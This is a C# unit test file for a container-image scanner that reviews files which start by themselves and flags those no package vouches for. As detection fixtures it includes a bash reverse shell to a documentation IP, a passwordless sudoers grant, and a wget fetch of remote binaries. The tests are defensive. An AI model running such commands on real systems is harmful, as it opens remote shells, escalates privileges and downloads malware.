using DockerScan.Core.Checks;
using DockerScan.Core.Findings;
using DockerScan.Core.Images;
using DockerScan.Scanners.Autorun;
using DockerScan.Scanners.Autorun.Packages;
using DockerScan.TestKit.Content;
using static DockerScan.Scanners.Tests.Autorun.AutorunBed;

namespace DockerScan.Scanners.Tests.Autorun;

/// <summary>What starts by itself and no package vouches for is one low finding; what a signature says is malware only when its grade says so.</summary>
public sealed class AutorunReviewTests
{
    private static readonly AutorunFindings Rules = new(TestSignatures.All);

    [Fact]
    public async Task ScanAsync_FilesOfNoPackage_AreOneLowFinding()
    {
        var outcome = await ScanAsync(new ImageConfiguration { Command = ["/e.sh"] }, UsualSystem().File("/e.sh", "#!/bin/sh\nexec /opt/app\n").File("/opt/app", Program()));

        var finding = Assert.Single(outcome.Findings);
        Assert.Equal((CheckIds.AutorunFile, "unvouched", Severity.Low, "start files"), (finding.Check, finding.Id, finding.Severity, finding.Location));
        Assert.StartsWith("Review: 3 files start by themselves", finding.Title, StringComparison.Ordinal);
        Assert.Contains("/opt/app: elf, started by /e.sh, sha256 ", finding.Evidence, StringComparison.Ordinal);
    }

    [Fact]
    public async Task ScanAsync_AllFilesOfPackages_IsNoFinding() => Assert.Empty((await ScanAsync(Nginx, Listed(Program()))).Findings);

    [Fact]
    public async Task ScanAsync_FileOfAPackageThatWasChanged_IsReviewed()
        => Assert.StartsWith("Review: 1 file starts by itself", Assert.Single((await ScanAsync(Nginx, Listed(Program("changed")))).Findings).Title, StringComparison.Ordinal);

    [Fact]
    public async Task ScanAsync_StartCommandThatIsMissing_IsNotReviewed()
        => Assert.DoesNotContain("unvouched", Ids(await ScanAsync(new ImageConfiguration { Command = ["/not/there"] }, new FakeImageContent())));

    [Fact]
    public async Task ScanAsync_ManyFiles_TheListIsBounded()
    {
        var content = UsualSystem();
        for (var i = 0; i < 40; i++)
        {
            content.File($"/opt/a{i}", Program());
        }

        var finding = Finding(await ScanAsync(new ImageConfiguration { Command = ["/bin/sh", "-c", string.Join("; ", Enumerable.Range(0, 40).Select(i => $"/opt/a{i}"))] }, content), "unvouched");

        Assert.EndsWith("\nand 26 more", finding.Evidence, StringComparison.Ordinal);
    }

    // The grade decides the check, and the class of the key is none: a signature whose grade changes is no new finding.
    [Theory]
    [InlineData("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", CheckIds.AutorunMalware)]
    [InlineData("echo \"app ALL=(ALL) NOPASSWD:ALL\" > /etc/sudoers.d/app", CheckIds.AutorunFile)]
    [InlineData("wget http://203.0.113.7/bins/x86", CheckIds.AutorunFile)]
    public void OfScript_Grade_DecidesWhetherItIsMalware(string text, string check)
    {
        var found = Rules.OfScript("/e.sh", text, TestContext.Current.CancellationToken).ToList();

        Assert.NotEmpty(found);
        Assert.All(found, finding => Assert.Equal((check, KeyClasses.Signature), (finding.Check, finding.KeyClass)));
    }

    [Theory]
    [InlineData("UPX!", "packer.upx")]
    [InlineData("E: neither argv[0] nor $_ works.", "packer.shc")]
    [InlineData("_MEIPASS2", "packer.script-bundle")]
    public async Task ScanAsync_PackedProgram_IsReviewedAndNotMalware(string mark, string id)
    {
        var outcome = await ScanAsync(new ImageConfiguration { Command = ["/bin/app"] }, new FakeImageContent().File("/bin/app", Program(mark)));

        Assert.True(Finding(outcome, id).Severity <= Severity.Medium);
        Assert.All(outcome.Findings, finding => Assert.Equal(CheckIds.AutorunFile, finding.Check));
    }

    private static ImageConfiguration Nginx => new() { Command = ["/usr/bin/nginx"] };

    private static FakeImageContent Listed(byte[] program)
        => new FakeImageContent().File("/usr/bin/nginx", program).File("/var/lib/dpkg/info/nginx.md5sums", $"{FileDigests.Of(Program()).Md5}  usr/bin/nginx\n");
}
